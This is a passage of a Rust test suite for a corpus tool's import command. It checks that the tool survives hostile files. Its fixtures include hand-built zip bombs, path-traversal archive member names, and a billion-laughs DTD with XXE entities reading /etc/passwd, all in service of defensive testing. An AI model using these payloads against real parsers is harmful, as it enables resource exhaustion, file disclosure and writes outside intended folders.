//! Hostile inputs through `broadsheet import`, run as a child process whose peak resident
//! memory (its `VmHWM`, polled from /proc) is checked against the bound each test states: zip
//! bombs, archive names that try to escape, XML entities, huge lines and articles, broken
//! encodings, broken CSV, deep JSON, SGML full of unclosed tags and HTML with scripts. Every test
//! also imports a good file beside the hostile one and checks it was stored, so one bad file never
//! stops an import. Large inputs are generated in a temporary folder at test time; nothing large
//! is committed.

use std::fs::File;
use std::io::{BufWriter, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;

const MB: u64 = 1024 * 1024;

/// A new project in a temporary folder.
fn project() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("proj");
    let o = Command::new(env!("CARGO_BIN_EXE_broadsheet"))
        .arg("new")
        .arg(&p)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    (dir, p)
}

/// What one `broadsheet import --json` run did.
struct Run {
    report: Value,
    stderr: String,
    /// Peak resident set of the process, in bytes.
    peak_rss: u64,
}

impl Run {
    /// Every diagnostic as `(code, file, record, message)`.
    fn diagnostics(&self) -> Vec<(String, String, String, String)> {
        self.report["diagnostics"]
            .as_array()
            .map(|a| {
                a.iter()
                    .map(|d| {
                        let pos = &d["locator"]["pos"];
                        (
                            d["code"].as_str().unwrap_or("").to_string(),
                            d["locator"]["file"].as_str().unwrap_or("").to_string(),
                            match pos["kind"].as_str() {
                                Some("file") | None => String::new(),
                                Some(k) => format!("{k} {}", pos["at"]),
                            },
                            d["message"].as_str().unwrap_or("").to_string(),
                        )
                    })
                    .collect()
            })
            .unwrap_or_default()
    }

    /// The first diagnostic with `code` about a file whose name ends with `file`.
    fn diagnostic(&self, code: &str, file: &str) -> (String, String, String, String) {
        self.diagnostics()
            .into_iter()
            .find(|d| d.0 == code && d.1.ends_with(file))
            .unwrap_or_else(|| {
                panic!(
                    "no `{code}` diagnostic for {file}: {:#?}",
                    self.diagnostics()
                )
            })
    }

    fn stored(&self) -> u64 {
        self.report["stored"].as_u64().unwrap()
    }

    fn assert_rss_under(&self, bound_mb: u64) {
        eprintln!("peak RSS: {} MB", self.peak_rss / MB);
        assert!(
            self.peak_rss < bound_mb * MB,
            "peak RSS {} MB is over the bound of {bound_mb} MB",
            self.peak_rss / MB
        );
    }
}

/// Runs `broadsheet -p PROJECT import --json ARGS…` and measures its peak memory.
fn import(project: &Path, args: &[&dyn AsRef<std::ffi::OsStr>]) -> Run {
    let out = tempfile::NamedTempFile::new().unwrap();
    let err = tempfile::NamedTempFile::new().unwrap();
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_broadsheet"));
    cmd.arg("-p").arg(project).arg("import").arg("--json");
    for a in args {
        cmd.arg(a);
    }
    let mut child = cmd
        .stdin(Stdio::null())
        .stdout(out.reopen().unwrap())
        .stderr(err.reopen().unwrap())
        .spawn()
        .unwrap();
    let (status, peak_rss) = wait_measured(&mut child);
    let stdout = std::fs::read_to_string(out.path()).unwrap();
    let stderr = std::fs::read_to_string(err.path()).unwrap();
    assert!(
        status.success(),
        "broadsheet import exited with {status}: {stderr}"
    );
    let report: Value = serde_json::from_str(&stdout)
        .unwrap_or_else(|e| panic!("not a JSON report ({e}): {stdout}\n{stderr}"));
    assert_eq!(report["status"], "completed", "{stderr}");
    Run {
        report,
        stderr,
        peak_rss,
    }
}

/// Waits for a child, returning its exit status and its peak resident set in bytes: the
/// high-water mark `VmHWM` of `/proc/PID/status`, read every 2 ms while it runs (it only grows,
/// so only growth in the last 2 ms before the exit could be missed). `ru_maxrss` from `wait4` is
/// no use here: Linux carries the parent's high-water mark over into the child at exec, and the
/// parent is this test binary, which writes the large inputs.
fn wait_measured(child: &mut std::process::Child) -> (std::process::ExitStatus, u64) {
    let status_file = format!("/proc/{}/status", child.id());
    let mut peak_kb = 0u64;
    loop {
        if let Ok(s) = std::fs::read_to_string(&status_file) {
            if let Some(kb) = s
                .lines()
                .find_map(|l| l.strip_prefix("VmHWM:"))
                .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            {
                peak_kb = peak_kb.max(kb);
            }
        }
        if let Some(status) = child.try_wait().unwrap() {
            assert!(peak_kb > 0, "no memory reading for the child");
            return (status, peak_kb * 1024);
        }
        std::thread::sleep(std::time::Duration::from_millis(2));
    }
}

/// A small JSON Lines file with `n` good articles, to import beside a hostile file.
fn good_file(dir: &Path, name: &str, n: usize) -> PathBuf {
    let p = dir.join(name);
    let mut f = File::create(&p).unwrap();
    for i in 0..n {
        writeln!(
            f,
            r#"{{"title":"Good article {name} {i}","text":"Ordinary text of a good article, number {i}.","url":"https://example.org/{name}/{i}"}}"#
        )
        .unwrap();
    }
    p
}

/// Every stored article's title and body.
fn articles(project: &Path) -> Vec<(String, String)> {
    let store = broadsheet_store::Store::open(&project.join("corpus.sqlite")).unwrap();
    store.check_integrity().unwrap();
    let mut st = store
        .connection()
        .prepare("SELECT title, body FROM articles ORDER BY id")
        .unwrap();
    let rows = st
        .query_map([], |r| Ok((r.get(0)?, r.get(1)?)))
        .unwrap()
        .collect::<Result<Vec<(String, String)>, _>>()
        .unwrap();
    rows
}

// ---------------------------------------------------------------------------------------------
// Zip files written byte by byte, so that they can be as wrong as an attacker makes them.

fn crc32(data: &[u8]) -> u32 {
    let mut h = flate2::Crc::new();
    h.update(data);
    h.sum()
}

fn deflate(data: &[u8]) -> Vec<u8> {
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

/// One entry of a hand-made zip: its name, method (0 stored, 8 deflated), CRC, sizes, and the
/// offset of the local header it points at (entries may share one).
#[derive(Clone)]
struct Entry {
    name: Vec<u8>,
    method: u16,
    crc: u32,
    compressed: u32,
    size: u32,
    offset: u32,
}

fn local_header(out: &mut Vec<u8>, e: &Entry) {
    out.extend(0x04034b50u32.to_le_bytes());
    out.extend(20u16.to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out.extend(e.method.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend(e.crc.to_le_bytes());
    out.extend(e.compressed.to_le_bytes());
    out.extend(e.size.to_le_bytes());
    out.extend((e.name.len() as u16).to_le_bytes());
    out.extend(0u16.to_le_bytes());
    out.extend(&e.name);
}

/// Appends the central directory for `entries` and the end record.
fn central_directory(out: &mut Vec<u8>, entries: &[Entry]) {
    let start = out.len() as u32;
    for e in entries {
        out.extend(0x02014b50u32.to_le_bytes());
        out.extend(20u16.to_le_bytes());
        out.extend(20u16.to_le_bytes());
        out.extend(0u16.to_le_bytes());
        out.extend(e.method.to_le_bytes());
        out.extend([0u8; 4]);
        out.extend(e.crc.to_le_bytes());
        out.extend(e.compressed.to_le_bytes());
        out.extend(e.size.to_le_bytes());
        out.extend((e.name.len() as u16).to_le_bytes());
        out.extend([0u8; 12]);
        out.extend(e.offset.to_le_bytes());
        out.extend(&e.name);
    }
    let size = out.len() as u32 - start;
    out.extend(0x06054b50u32.to_le_bytes());
    out.extend([0u8; 4]);
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend((entries.len() as u16).to_le_bytes());
    out.extend(size.to_le_bytes());
    out.extend(start.to_le_bytes());
    out.extend(0u16.to_le_bytes());
}

/// A well-formed zip of `(name, content)` members, deflated.
fn zip_of(members: &[(&[u8], &[u8])]) -> Vec<u8> {
    let mut out = Vec::new();
    let mut entries = Vec::new();
    for (name, data) in members {
        let packed = deflate(data);
        let e = Entry {
            name: name.to_vec(),
            method: 8,
            crc: crc32(data),
            compressed: packed.len() as u32,
            size: data.len() as u32,
            offset: out.len() as u32,
        };
        local_header(&mut out, &e);
        out.extend(&packed);
        entries.push(e);
    }
    central_directory(&mut out, &entries);
    out
}

/// A raw deflate stream that inflates to `gb` GiB of zeros in a few MB: one sync-flushed block
/// run of 1 MiB of zeros repeated (its back references only ever see zeros), then an empty
/// final block.
fn deflated_zeros(gib: u64) -> Vec<u8> {
    let mut c = flate2::Compress::new(flate2::Compression::best(), false);
    let zeros = vec![0u8; MB as usize];
    let run = |c: &mut flate2::Compress| {
        let mut out = Vec::with_capacity(64 * 1024);
        c.compress_vec(&zeros, &mut out, flate2::FlushCompress::Sync)
            .unwrap();
        assert_eq!(c.total_in() % MB, 0);
        out
    };
    let first = run(&mut c);
    let repeat = run(&mut c);
    let mut out = first;
    for _ in 1..gib * 1024 {
        out.extend(&repeat);
    }
    out.extend([0x03, 0x00]);
    out
}

/// Bound for the zip and gzip bombs: the reader holds at most one 64 MB record of decompressed
/// text at a time, plus the process's ordinary working set.
const BOMB_BOUND_MB: u64 = 400;

/// A zip holding zips holding zips (ten copies a level, three levels, a 10 MB text of zeros at
/// the bottom: 10 GB if it were all unpacked). Broadsheet reads no archive inside an archive, so
/// each inner zip is one diagnostic naming it; the good article beside them is stored.
/// Bound: 400 MB of peak RSS.
#[test]
fn nested_zip_bomb_is_not_unpacked() {
    let (dir, p) = project();
    let zeros = vec![b'0'; 10 * MB as usize];
    let mut level = zip_of(&[(b"zeros.txt", &zeros)]);
    for _ in 0..3 {
        let names: Vec<Vec<u8>> = (0..10).map(|i| format!("{i}.zip").into_bytes()).collect();
        let members: Vec<(&[u8], &[u8])> = names
            .iter()
            .map(|n| (n.as_slice(), level.as_slice()))
            .collect();
        level = zip_of(&members);
    }
    let outer = zip_of(&[
        (b"0.zip", &level),
        (b"story.txt", b"A story in the archive\n\nIts text."),
    ]);
    let bomb = dir.path().join("nested.zip");
    std::fs::write(&bomb, &outer).unwrap();
    let good = good_file(dir.path(), "good.jsonl", 3);
    let run = import(&p, &[&bomb, &good]);
    let d = run.diagnostic("unreadable", "nested.zip!/0.zip");
    assert!(d.3.contains("zip archive inside another archive"), "{d:?}");
    assert_eq!(run.stored(), 4, "{:#?}", run.diagnostics());
    assert!(articles(&p)
        .iter()
        .any(|(t, _)| t == "A story in the archive"));
    run.assert_rss_under(BOMB_BOUND_MB);
}

/// The overlapping-entry zip bomb (after David Fifield, "A better zip bomb"): a thousand
/// central-directory entries all point at one deflated body of 100 MB of text, 100 GB in all
/// from a file of about 200 KB. Decompression stops at the budget (1 GiB here, as the file is
/// small) with one diagnostic naming the archive and how many members were left unread; the
/// good file imported with it is stored. Bound: 400 MB of peak RSS.
#[test]
fn overlapping_entry_zip_bomb_stops_at_the_decompression_budget() {
    let (dir, p) = project();
    let body = vec![b'x'; 100 * MB as usize];
    let packed = deflate(&body);
    let first = Entry {
        name: b"kernel.txt".to_vec(),
        method: 8,
        crc: crc32(&body),
        compressed: packed.len() as u32,
        size: body.len() as u32,
        offset: 0,
    };
    let mut out = Vec::new();
    local_header(&mut out, &first);
    out.extend(&packed);
    let entries: Vec<Entry> = (0..1000)
        .map(|i| Entry {
            name: if i == 0 {
                b"kernel.txt".to_vec()
            } else {
                format!("copy{i:04}.txt").into_bytes()
            },
            ..first
        })
        .collect();
    central_directory(&mut out, &entries);
    let bomb = dir.path().join("overlap.zip");
    std::fs::write(&bomb, &out).unwrap();
    assert!(out.len() < 512 * 1024, "the bomb is {} bytes", out.len());
    let good = good_file(dir.path(), "good.jsonl", 3);
    let started = std::time::Instant::now();
    let run = import(&p, &[&bomb, &good]);
    eprintln!("imported in {:?}", started.elapsed());
    let diags = run.diagnostics();
    eprintln!("{diags:#?}");
    // Either the zip reader refuses entries that overlap, or decompression stops at the budget.
    let stopped = diags
        .iter()
        .any(|d| d.0 == "inflate-limit" && d.1 == "overlap.zip" && d.3.contains("not read"));
    let refused = diags
        .iter()
        .filter(|d| d.1.starts_with("overlap.zip") && d.0 != "inflate-limit")
        .count();
    assert!(stopped || refused >= 999, "{diags:#?}");
    assert_eq!(run.stored(), 3, "{diags:#?}");
    run.assert_rss_under(BOMB_BOUND_MB);
}

/// One member that inflates to many gigabytes: a gzip of 10 GiB of zeros (concatenated gzip
/// members, 10 MB on disk) and a zip entry declaring 4 GB (a deflate stream of 4 GiB of zeros,
/// 4 MB on disk). Each stops at the decompression budget with a diagnostic naming the file;
/// nothing is written to disk. Bound: 400 MB of peak RSS.
#[test]
fn a_member_inflating_to_many_gigabytes_stops_at_the_budget() {
    let (dir, p) = project();
    // gzip: 160 members of 64 MiB of zeros each.
    let gz = dir.path().join("huge.jsonl.gz");
    {
        let mut one = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
        one.write_all(&vec![0u8; 64 * MB as usize]).unwrap();
        let one = one.finish().unwrap();
        let mut f = BufWriter::new(File::create(&gz).unwrap());
        for _ in 0..160 {
            f.write_all(&one).unwrap();
        }
    }
    // zip: one entry of 4 GiB - 64 KiB declared, its deflate stream inflating to 4 GiB.
    let zp = dir.path().join("huge.zip");
    {
        let stream = deflated_zeros(4);
        let e = Entry {
            name: b"zeros.txt".to_vec(),
            method: 8,
            crc: 0,
            compressed: stream.len() as u32,
            size: u32::MAX - 65535,
            offset: 0,
        };
        let mut out = Vec::new();
        local_header(&mut out, &e);
        out.extend(&stream);
        central_directory(&mut out, &[e]);
        std::fs::write(&zp, out).unwrap();
    }
    let good = good_file(dir.path(), "good.jsonl", 3);
    let started = std::time::Instant::now();
    let run = import(&p, &[&gz, &zp, &good]);
    eprintln!("{:#?}", run.diagnostics());
    eprintln!("imported in {:?}", started.elapsed());
    let d = run.diagnostic("unreadable", "huge.jsonl.gz");
    assert!(d.3.contains("decompression stopped"), "{d:?}");
    let diags = run.diagnostics();
    assert!(
        diags.iter().any(|d| d.1.starts_with("huge.zip")
            && (d.3.contains("decompression stopped") || d.3.contains("over the limit"))),
        "{diags:#?}"
    );
    assert_eq!(run.stored(), 3, "{diags:#?}");
    run.assert_rss_under(BOMB_BOUND_MB);
}

/// Member names with `../`, absolute paths, backslashes and drive letters are only shown, never
/// used as paths: every member is read as an article, its locator is the name as written, and
/// no file appears anywhere. Bound: 200 MB.
#[test]
fn archive_member_names_that_escape_are_only_shown() {
    let (dir, p) = project();
    let names: [&[u8]; 5] = [
        b"../../escaped-by-broadsheet-test.txt",
        b"/tmp/absolute-by-broadsheet-test.txt",
        b"..\\..\\backslash-by-broadsheet-test.txt",
        b"C:\\Windows\\drive-by-broadsheet-test.txt",
        b"ok/../../../dotdot-by-broadsheet-test.txt",
    ];
    let bodies: Vec<Vec<u8>> = (0..names.len())
        .map(|i| format!("Escape attempt {i}\n\nThe text of member {i}.").into_bytes())
        .collect();
    let members: Vec<(&[u8], &[u8])> = names
        .iter()
        .zip(&bodies)
        .map(|(n, b)| (*n, b.as_slice()))
        .collect();
    let zp = dir.path().join("names.zip");
    std::fs::write(&zp, zip_of(&members)).unwrap();
    let run = import(&p, &[&zp]);
    assert_eq!(run.stored(), 5, "{:#?}", run.diagnostics());
    let files: Vec<String> = run.report["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["file"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(files, vec!["names.zip"]);
    let store = broadsheet_store::Store::open(&p.join("corpus.sqlite")).unwrap();
    let shown: Vec<String> = store
        .connection()
        .prepare("SELECT json_extract(extra, '$.file') FROM articles ORDER BY id")
        .unwrap()
        .query_map([], |r| r.get::<_, Option<String>>(0))
        .unwrap()
        .map(|r| r.unwrap().unwrap_or_default())
        .collect();
    assert_eq!(shown.len(), 5);
    for n in [
        "escaped-by-broadsheet-test.txt",
        "absolute-by-broadsheet-test.txt",
        "backslash-by-broadsheet-test.txt",
        "drive-by-broadsheet-test.txt",
        "dotdot-by-broadsheet-test.txt",
    ] {
        for place in [
            dir.path().to_path_buf(),
            dir.path().parent().unwrap().to_path_buf(),
            PathBuf::from("/tmp"),
            std::env::current_dir().unwrap(),
        ] {
            assert!(
                !place.join(n).exists(),
                "{} was written",
                place.join(n).display()
            );
        }
    }
    run.assert_rss_under(200);
}

/// XML with a billion-laughs DTD and external entities (`SYSTEM "file:///etc/passwd"`), as an
/// RSS feed and as Reuters-style SGML: entities declared in a DTD are never expanded and never
/// fetched, so the text holds the reference literally, never the file's content and never a
/// billion `lol`s. Bound: 200 MB.
#[test]
fn xml_entities_are_neither_expanded_nor_fetched() {
    let (dir, p) = project();
    let dtd = r#"<!DOCTYPE lolz [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "file:///etc/passwd">
  %remote;
]>"#;
    let feed = dir.path().join("laughs.rss");
    std::fs::write(
        &feed,
        format!(
            r#"<?xml version="1.0"?>
{dtd}
<rss version="2.0"><channel><title>&lol9;</title>
<item><title>Laughing &lol9;</title><link>https://example.org/laugh</link>
<description>Before &xxe; after &lol9;.</description></item>
</channel></rss>"#
        ),
    )
    .unwrap();
    let sgml = dir.path().join("laughs.sgm");
    std::fs::write(
        &sgml,
        format!(
            r#"{dtd}
<REUTERS NEWID="1"><DATE>26-FEB-1987 15:01:01.79</DATE><TEXT><TITLE>Entity &xxe; title</TITLE>
<BODY>Body with &lol9; and &xxe; in it.</BODY></TEXT></REUTERS>"#
        ),
    )
    .unwrap();
    let good = good_file(dir.path(), "good.jsonl", 2);
    let run = import(&p, &[&feed, &sgml, &good]);
    assert_eq!(run.stored(), 4, "{:#?}", run.diagnostics());
    for f in ["laughs.rss", "laughs.sgm"] {
        let d = run.diagnostic("dtd-entities", f);
        assert!(d.3.contains("never expanded or fetched"), "{d:?}");
    }
    let passwd = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
    let first_line = passwd.lines().next().unwrap_or("root:x:0:0");
    for (title, body) in articles(&p) {
        for text in [&title, &body] {
            assert!(!text.contains(first_line), "/etc/passwd leaked: {text}");
            assert!(!text.contains("root:x:0"), "/etc/passwd leaked: {text}");
            assert!(!text.contains("lollol"), "an entity was expanded: {text}");
        }
    }
    let all: String = articles(&p)
        .iter()
        .map(|(t, b)| format!("{t}\n{b}\n"))
        .collect();
    assert!(all.contains("Laughing"), "{all}");
    assert!(all.contains("Body with"), "{all}");
    run.assert_rss_under(200);
}

/// Writes `size` bytes made of `head`, `fill` repeated, and `tail`, without a line break unless
/// the parts have one.
fn big_file(path: &Path, head: &[u8], fill: u8, size: u64, tail: &[u8]) {
    let mut f = BufWriter::with_capacity(1 << 20, File::create(path).unwrap());
    f.write_all(head).unwrap();
    let block = vec![fill; MB as usize];
    let mut left = size - head.len() as u64 - tail.len() as u64;
    while left > 0 {
        let n = left.min(MB);
        f.write_all(&block[..n as usize]).unwrap();
        left -= n;
    }
    f.write_all(tail).unwrap();
}

/// Files of 200 MB on one line, as JSON Lines, CSV and plain text: each is over the 64 MB record
/// limit, so each gives one diagnostic naming the file (and line) and is skipped, and the good
/// file imported with them is stored. Bound: 600 MB (the readers hold at most one record of
/// 64 MB, the CSV parser up to twice that while it grows its buffer).
#[test]
fn single_lines_of_200_mb() {
    let (dir, p) = project();
    let jl = dir.path().join("oneline.jsonl");
    big_file(&jl, br#"{"title":"big","text":""#, b'a', 200 * MB, br#""}"#);
    let csv = dir.path().join("oneline.csv");
    big_file(&csv, b"title,text,", b'b', 200 * MB, b"");
    let txt = dir.path().join("oneline.txt");
    big_file(&txt, b"", b'c', 200 * MB, b"");
    let good = good_file(dir.path(), "good.jsonl", 3);
    let started = std::time::Instant::now();
    let run = import(&p, &[&jl, &csv, &txt, &good]);
    eprintln!("imported in {:?}", started.elapsed());
    let d = run.diagnostic("too-large", "oneline.jsonl");
    assert_eq!(d.2, "line 1", "{d:?}");
    let d = run.diagnostic("bad-csv", "oneline.csv");
    assert_eq!(d.2, "line 1", "{d:?}");
    assert!(d.3.contains("limit"), "{d:?}");
    let d = run.diagnostic("unreadable", "oneline.txt");
    assert!(d.3.contains("over the limit"), "{d:?}");
    assert_eq!(run.stored(), 3, "{:#?}", run.diagnostics());
    run.assert_rss_under(600);
}

/// Whole JSON documents (a pretty-printed object whose largest list holds the records) are
/// parsed in one piece, so they are capped at four times the record limit (256 MB): a 200 MB
/// document is read (its 20 objects of 10 MB hold no article fields, so the document holds no
/// records: one diagnostic naming its lists), a 300 MB one is refused with a diagnostic that
/// suggests JSON Lines. Bound: 1,000 MB (the document's bytes and its parsed form are both in
/// memory while it is parsed).
#[test]
fn json_documents_are_capped_at_four_times_the_record_limit() {
    let (dir, p) = project();
    let write_doc = |name: &str, mb: usize| {
        let path = dir.path().join(name);
        let mut f = BufWriter::with_capacity(1 << 20, File::create(&path).unwrap());
        f.write_all(b"{\n\"status\": \"ok\",\n\"articles\": [\n")
            .unwrap();
        let blob = "z".repeat(10 * MB as usize);
        for i in 0..mb / 10 {
            if i > 0 {
                f.write_all(b",\n").unwrap();
            }
            write!(f, "{{\"blob\": \"{blob}\", \"n\": {i}}}").unwrap();
        }
        f.write_all(b"\n]\n}\n").unwrap();
        path
    };
    let doc = write_doc("doc200.json", 200);
    let huge = write_doc("doc300.json", 300);
    let good = good_file(dir.path(), "good.jsonl", 2);
    let started = std::time::Instant::now();
    let run = import(&p, &[&doc, &huge, &good]);
    eprintln!("imported in {:?}", started.elapsed());
    let d = run.diagnostic("no-records", "doc200.json");
    assert!(
        d.3.contains("`articles` (20 objects with blob, n)"),
        "{d:?}"
    );
    let d = run.diagnostic("unreadable", "doc300.json");
    assert!(d.3.contains("JSON Lines"), "{d:?}");
    assert_eq!(run.stored(), 2, "{:#?}", run.diagnostics());
    run.assert_rss_under(1000);
}

/// A 100 MB article (over the 64 MB limit: skipped, with a diagnostic naming the file) and a
/// 24 MB one (under it: stored whole) in plain text. Bound: 1,200 MB, for the article stored:
/// its raw and decoded text, the cleaned body, its search form and the FTS5 and SQLite buffers
/// are each about the article's size.
#[test]
fn a_100_mb_article_is_skipped_and_a_large_one_under_the_limit_stored() {
    let (dir, p) = project();
    let over = dir.path().join("over.txt");
    big_file(&over, b"Over the limit\n\n", b'w', 100 * MB, b"");
    let under = dir.path().join("under.txt");
    {
        let mut f = BufWriter::new(File::create(&under).unwrap());
        f.write_all(b"Under the limit\n\n").unwrap();
        let para = "Words of a very long article about regional security. ".repeat(100);
        let mut n = 0;
        while n < 24 * MB as usize {
            f.write_all(para.as_bytes()).unwrap();
            f.write_all(b"\n\n").unwrap();
            n += para.len() + 2;
        }
    }
    let good = good_file(dir.path(), "good.jsonl", 2);
    let started = std::time::Instant::now();
    let run = import(&p, &[&over, &under, &good]);
    eprintln!("imported in {:?}", started.elapsed());
    let d = run.diagnostic("unreadable", "over.txt");
    assert!(d.3.contains("100.0 MB") && d.3.contains("64.0 MB"), "{d:?}");
    assert_eq!(run.stored(), 3, "{:#?}", run.diagnostics());
    let arts = articles(&p);
    let big = arts.iter().find(|(t, _)| t == "Under the limit").unwrap();
    assert!(big.1.len() > 23 * MB as usize, "{}", big.1.len());
    run.assert_rss_under(1200);
}

/// Bytes that are not UTF-8 (overlong forms, surrogates encoded in UTF-8, truncated sequences)
/// in an otherwise UTF-8 file, NUL bytes, UTF-16 without a byte-order mark, and files mixing
/// UTF-8 records with Windows-1251 or Latin-1 ones: every record is stored, each record read in
/// a legacy encoding with a diagnostic naming the file and line, the mixed files' records each
/// in the encoding they are valid in, and no stored text holds a NUL. Bound: 200 MB.
#[test]
fn broken_and_mixed_encodings() {
    let (dir, p) = project();
    let jl = dir.path().join("broken.jsonl");
    {
        let mut f = File::create(&jl).unwrap();
        f.write_all(b"{\"title\":\"Overlong \xC0\xAF slash\",\"text\":\"one\"}\n")
            .unwrap();
        f.write_all(b"{\"title\":\"Surrogate \xED\xA0\x80 half\",\"text\":\"two\"}\n")
            .unwrap();
        f.write_all(b"{\"title\":\"Truncated \xE2\x82\",\"text\":\"three\"}\n")
            .unwrap();
        f.write_all(b"{\"title\":\"Escaped NUL \\u0000 here\",\"text\":\"four\"}\n")
            .unwrap();
        f.write_all(b"{\"title\":\"Raw NUL \x00 here\",\"text\":\"five\"}\n")
            .unwrap();
        for i in 0..5 {
            writeln!(
                f,
                r#"{{"title":"Кыргызстан и Таджикистан {i}","text":"текст"}}"#
            )
            .unwrap();
        }
    }
    let utf16 = dir.path().join("utf16.txt");
    let text16: Vec<u8> = "UTF-16 without a BOM\r\n\r\nThe body of a text saved by an old editor."
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    std::fs::write(&utf16, text16).unwrap();
    let nul = dir.path().join("nul.txt");
    std::fs::write(&nul, b"NUL title\n\nA body\x00 with NUL\x00 bytes in it.").unwrap();
    let mixed = dir.path().join("mixed.csv");
    {
        let mut f = File::create(&mixed).unwrap();
        f.write_all(b"title,text\n").unwrap();
        for i in 0..3 {
            writeln!(f, "Кыргызстан {i},строка в UTF-8").unwrap();
            let row = format!("Москва {i},строка в Windows-1251\n");
            let (cp, _, _) = encoding_rs::WINDOWS_1251.encode(&row);
            f.write_all(&cp).unwrap();
        }
    }
    let latin = dir.path().join("mixed_latin1.jsonl");
    {
        let mut f = File::create(&latin).unwrap();
        for i in 0..3 {
            writeln!(f, r#"{{"title":"Café crème {i}","text":"UTF-8 ligne"}}"#).unwrap();
            writeln!(f, r#"{{"title":"Théâtre {i}","text":"résumé"}}"#).unwrap();
            f.write_all(b"{\"title\":\"Na\xEFve fa\xE7ade ").unwrap();
            write!(f, "{i}").unwrap();
            f.write_all(b"\",\"text\":\"Latin-1 \xE9t\xE9\"}\n")
                .unwrap();
        }
    }
    let run = import(&p, &[&jl, &utf16, &nul, &mixed, &latin]);
    let diags = run.diagnostics();
    // The raw NUL inside a JSON string is invalid JSON: one diagnostic for that line.
    let bad = run.diagnostic("bad-json", "broken.jsonl");
    assert_eq!(bad.2, "line 5", "{bad:?}");
    let encoding_lines = |file: &str| -> Vec<String> {
        diags
            .iter()
            .filter(|d| d.0 == "encoding" && d.1 == file)
            .map(|d| d.2.clone())
            .collect()
    };
    assert_eq!(
        encoding_lines("broken.jsonl"),
        vec!["line 1", "line 2", "line 3"]
    );
    assert_eq!(
        encoding_lines("mixed.csv"),
        vec!["line 3", "line 5", "line 7"]
    );
    assert_eq!(encoding_lines("mixed_latin1.jsonl").len(), 3, "{diags:#?}");
    // 9 of 10 JSON lines, the UTF-16 and NUL texts, 6 CSV rows, 9 Latin-1 mixed lines.
    assert_eq!(run.stored(), 26, "{diags:#?}");
    let arts = articles(&p);
    for (t, b) in &arts {
        assert!(
            !t.contains('\0') && !b.contains('\0'),
            "a NUL was stored: {t:?}"
        );
    }
    let titles: Vec<&str> = arts.iter().map(|(t, _)| t.as_str()).collect();
    for want in [
        "UTF-16 without a BOM",
        "Москва 2",
        "Кыргызстан 2",
        "Naïve façade 2",
        "Café crème 0",
        "Théâtre 1",
        "Кыргызстан и Таджикистан 4",
    ] {
        assert!(titles.contains(&want), "{want} missing from {titles:?}");
    }
    assert!(
        titles.iter().any(|t| t.starts_with("Truncated")),
        "{titles:?}"
    );
    run.assert_rss_under(200);
}

/// A CSV whose third row opens a quote that is never closed, followed by 200 MB of rows: the
/// csv crate would buffer it all as one field; the reader stops at the 64 MB record limit with a
/// diagnostic naming the line where the row began, keeping the rows before it. Ragged rows are
/// kept with a warning each. Bound: 500 MB.
#[test]
fn csv_with_an_unbalanced_quote_and_ragged_rows() {
    let (dir, p) = project();
    let csv = dir.path().join("unbalanced.csv");
    {
        let mut f = BufWriter::with_capacity(1 << 20, File::create(&csv).unwrap());
        f.write_all(b"title,text\nFirst,fine\nSecond,\"this quote is never closed\n")
            .unwrap();
        // Lines without a comma: no row of their own, so the reader cannot resume before the
        // record limit (lines that read as rows are resynchronised at: tests of csv.rs).
        let row = b"a line the open quote swallows\n";
        let mut n = 0u64;
        while n < 200 * MB {
            f.write_all(row).unwrap();
            n += row.len() as u64;
        }
    }
    let ragged = dir.path().join("ragged.csv");
    std::fs::write(&ragged, "title,text\nA,a,extra,more\nB\nC,c\n").unwrap();
    let run = import(&p, &[&csv, &ragged]);
    let d = run.diagnostic("bad-csv", "unbalanced.csv");
    assert_eq!(d.2, "line 3", "{d:?}");
    assert!(d.3.contains("never closed"), "{d:?}");
    let ragged_rows: Vec<String> = run
        .diagnostics()
        .into_iter()
        .filter(|d| d.0 == "ragged-row" && d.1 == "ragged.csv")
        .map(|d| d.2)
        .collect();
    assert_eq!(ragged_rows, vec!["line 2", "line 3"]);
    assert_eq!(run.stored(), 4, "{:#?}", run.diagnostics());
    run.assert_rss_under(500);
}

/// JSON nested 100,000 deep, as an array element, a JSON Lines line and a whole document: each
/// is one `bad-json` diagnostic (serde_json's recursion limit), never a stack overflow, and the
/// good records around it are stored. Bound: 200 MB.
#[test]
fn json_nested_100000_deep() {
    let (dir, p) = project();
    let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
    let arr = dir.path().join("deep_array.json");
    std::fs::write(
